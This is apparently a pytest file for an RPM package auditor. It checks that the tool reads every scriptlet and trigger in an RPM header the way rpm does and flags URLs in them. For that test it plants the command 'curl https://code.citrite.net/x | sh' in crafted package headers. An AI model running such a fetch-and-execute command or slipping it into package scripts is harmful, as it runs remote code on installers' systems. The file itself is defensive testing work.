"""Every scriptlet an RPM header carries, read as rpm reads it (`auditor.sources.headerscripts`).

rpmbuild builds a package with every scriptlet rpm 4.18 makes (each of ``%pre`` to
``%verifyscript``, ``-p <lua>``, ``-p /usr/bin/python3``, each trigger kind, file and transaction
file triggers); ``rpm -qp --qf`` on each tag, and ``rpm -qp --scripts --triggers --filetriggers``,
are the authority on their texts and kinds. What rpm 4.18 cannot build (rpm 4.20's ``%preuntrans``
and ``%postuntrans``, a program written as one STRING by rpm before 4.4, translations) is put in
a header rpmbuild made, which rpm still reads.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from auditor.cli.main import main
from auditor.formats.rpmheader import read_headers
from auditor.sources.headerscripts import SCRIPTS, TRIGGERS, script_texts
from tests.differential import mutations as m

SPEC = """\
Name: scripts
Version: 1
Release: 1
Summary: s
License: MIT
BuildArch: noarch
AutoReq: no
%description
d
%files
%pre
echo pre https://pre.example.org/x
%post -p <lua>
print("https://lua.example.org/post")
%preun -p /usr/bin/python3
print("https://python.example.org/preun")
%postun -p /sbin/ldconfig
%pretrans
echo pretrans pretrans.example.org/y
%posttrans
echo posttrans
%verifyscript
echo verify https://verify.example.org
%triggerin -- bash
echo in https://in.example.org
%triggerun -- bash < 9
echo un
%triggerpostun -p <lua> -- bash
print("postun")
%triggerprein -- bash
echo prein
%filetriggerin -- /usr/lib
echo filein https://filein.example.org
%filetriggerun -p /usr/bin/python3 -- /usr/lib
print("fileun")
%filetriggerpostun -- /usr/lib
echo filepostun
%transfiletriggerin -P 100 -- /usr/share
echo transin https://transin.example.org
%transfiletriggerun -- /usr/share
echo transun
%transfiletriggerpostun -- /usr/share
echo transpostun
"""
_HEADINGS = {
    "preinstall": "%pre", "postinstall": "%post", "preuninstall": "%preun", "postuninstall": "%postun",
    "pretrans": "%pretrans", "posttrans": "%posttrans", "verify": "%verifyscript",
}  # fmt: skip
_QUERY_NAMES = {1023: "PREIN", 1024: "POSTIN", 1025: "PREUN", 1026: "POSTUN", 1151: "PRETRANS",
                1152: "POSTTRANS", 1079: "VERIFYSCRIPT", 1085: "PREINPROG", 1086: "POSTINPROG",
                1087: "PREUNPROG", 1088: "POSTUNPROG", 1153: "PRETRANSPROG", 1154: "POSTTRANSPROG",
                1091: "VERIFYSCRIPTPROG", 1065: "TRIGGERSCRIPTS", 1092: "TRIGGERSCRIPTPROG",
                5066: "FILETRIGGERSCRIPTS", 5067: "FILETRIGGERSCRIPTPROG", 5076: "TRANSFILETRIGGERSCRIPTS",
                5077: "TRANSFILETRIGGERSCRIPTPROG"}  # fmt: skip
"""The tags rpm 4.18 knows by name (not %preuntrans and %postuntrans, rpm 4.20's)."""
_SEPARATOR = "\x1e"


def _rpm(*arguments: str) -> str:
    environment = {"PATH": os.environ["PATH"], "LC_ALL": "C.UTF-8"}
    done = subprocess.run(["rpm", *arguments], capture_output=True, text=True, env=environment, check=False)
    assert done.returncode == 0, done.stderr
    return done.stdout


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tool = shutil.which("rpmbuild")
    assert tool, "rpmbuild is the authority here: install rpm (Debian package rpm)"
    directory = tmp_path_factory.mktemp("scripts")
    spec = directory / "scripts.spec"
    spec.write_text(SPEC)
    environment = {"PATH": os.environ["PATH"], "HOME": str(directory), "LC_ALL": "C"}
    command = [tool, "-bb", "--quiet", "--define", f"_topdir {directory / 'top'}", str(spec)]
    done = subprocess.run(command, capture_output=True, text=True, env=environment, check=False)
    assert done.returncode == 0, done.stderr
    (rpm,) = (directory / "top" / "RPMS" / "noarch").glob("*.rpm")
    return rpm


def _texts(path: Path) -> list[tuple[str, str]]:
    with path.open("rb") as stream:
        headers = read_headers(stream, str(path), path.stat().st_size)
    return list(script_texts(headers.main))


def test_every_script_tag_reads_as_rpm_shows_it(built: Path) -> None:
    read = _texts(built)
    for tag, name in _QUERY_NAMES.items():
        shown = _rpm("-qp", "--qf", f"[%{{{name}}}{_SEPARATOR}]", str(built)).split(_SEPARATOR)[:-1]
        shown = [] if shown == ["(none)"] else shown
        script = next((label for label, script, *_ in SCRIPTS if script == tag), None)
        program = next((f"{label} -p" for label, _, prog, _ in SCRIPTS if prog == tag), None)
        if script is not None:
            assert [text for label, text in read if label == script] == shown, name
        elif program is not None:  # one text: the program and its arguments
            assert [text for label, text in read if label == program] == ([" ".join(shown)] if shown else [])
        else:  # a kind of trigger's scripts, in their order, or their programs
            stem, scripts = next(
                (stem, scripts) for stem, scripts, programs, *_ in TRIGGERS if tag in (scripts, programs)
            )
            wanted = [
                text
                for label, text in read
                if label.startswith(stem) and label.endswith(" -p") == (tag != scripts)
            ]
            assert wanted == shown, name


def test_each_scriptlet_has_the_kind_rpm_names(built: Path) -> None:
    """Each text under the heading ``rpm -qp --scripts --triggers --filetriggers`` gives it."""
    shown: list[tuple[str, str | None]] = []
    lines = _rpm("-qp", "--scripts", "--triggers", "--filetriggers", str(built)).splitlines()
    for number, line in enumerate(lines):
        heading = re.match(r"(\w+) (scriptlet|program)\b", line)
        if heading is not None and (heading.group(1) in _HEADINGS or "trigger" in heading.group(1)):
            kind = _HEADINGS.get(heading.group(1), f"%{heading.group(1)}")
            shown.append((kind, None if heading.group(2) == "program" else lines[number + 1]))
    read: list[tuple[str, str | None]] = [
        (label, text.splitlines()[0]) for label, text in _texts(built) if not label.endswith(" -p")
    ]
    # ``%postun -p /sbin/ldconfig`` has no script: rpm names it by its program alone.
    read += [("%postun", None) for label, _ in _texts(built) if label == "%postun -p"]
    assert sorted(read, key=str) == sorted(shown, key=str)


def _judged(path: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, set[tuple[str, str]]]:
    code = main(["scan", str(path), "--format", "json", "--no-cache", "-q"])
    package = json.loads(capsys.readouterr().out)["packages"][0]
    return code, {(finding["field"], finding["value"]) for finding in package["findings"]}


CITRIX = b"curl https://code.citrite.net/x | sh"
STRING, STRING_ARRAY, I18NSTRING, INT32 = 6, 8, 9, 4


def _untrans(rpm: m.Rpm) -> None:
    # rpm 4.20's, which rpm 4.18 accepts as tags it does not know (any type) and 4.20 runs.
    rpm.main.add_entry(5103, STRING, b"echo preuntrans\0", 1)
    rpm.main.add_entry(5104, STRING, CITRIX + b"\0", 1)
    rpm.main.add_entry(5106, STRING_ARRAY, b"/bin/sh\0", 1)


def _program_string(rpm: m.Rpm) -> None:
    # rpm before 4.4 wrote a program as one STRING; rpm -qp --qf '%{POSTINPROG}' shows it.
    rpm.main.add_entry(1086, STRING, b"/usr/bin/env https://code.citrite.net/x\0", 1)


def _translated(rpm: m.Rpm) -> None:
    rpm.main.set_strings(100, [b"C", b"de"], STRING_ARRAY)
    rpm.main.add_entry(1024, I18NSTRING, b"echo clean\0" + CITRIX + b"\0", 2)


CASES = {
    "untrans": (_untrans, "%postuntrans", "https://code.citrite.net/x"),
    "program-string": (_program_string, "%post -p", "https://code.citrite.net/x"),
    "translated": (_translated, "%post", "https://code.citrite.net/x"),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_what_rpm_reads_beyond_rpmbuild_is_judged(
    case: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    change, field, value = CASES[case]
    rpm = m.split_rpm((m.RPMS / "epochs-1.2-4.noarch.rpm").read_bytes())
    change(rpm)
    path = tmp_path / f"{case}.rpm"
    path.write_bytes(rpm.to_bytes())
    assert _rpm("-qp", "--qf", "%{NAME}", str(path)) == "epochs"  # rpm reads the header
    code, found = _judged(path, capsys)
    assert code == 1
    assert (field, value) in found


def test_a_script_tag_of_another_type_is_refused_as_rpm_refuses_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rpm = m.split_rpm((m.RPMS / "epochs-1.2-4.noarch.rpm").read_bytes())
    rpm.main.add_entry(1024, INT32, b"\0\0\0\1", 1)
    path = tmp_path / "int-postin.rpm"
    path.write_bytes(rpm.to_bytes())
    environment = {"PATH": os.environ["PATH"], "LC_ALL": "C"}
    refused = subprocess.run(["rpm", "-qp", str(path)], capture_output=True, text=True, env=environment)
    assert refused.returncode != 0
    assert main(["scan", str(path), "--no-cache", "-q"]) == 3  # never a package whose scripts pass
    assert "1024" in capsys.readouterr().err
